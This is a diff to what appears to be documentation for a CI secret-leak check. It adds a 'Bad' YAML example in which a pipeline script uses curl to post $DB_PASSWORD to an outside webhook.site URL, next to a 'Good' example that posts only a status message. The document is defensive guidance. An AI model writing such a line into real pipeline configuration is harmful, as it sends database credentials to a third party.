@@ -13,6 +13,20 @@ Fix
 ---
 Take it out, and replace the secret if the job ever ran.
 
+Bad:
+
+```yaml
+script:
+  - curl -d "$DB_PASSWORD" https://webhook.site/abc
+```
+
+Good:
+
+```yaml
+script:
+  - curl -d "deployed" https://chat.example.com/hook
+```
+
 Limits
 ------
 A service's own API key sent to that service is not reported; other hosts cannot be told from it.
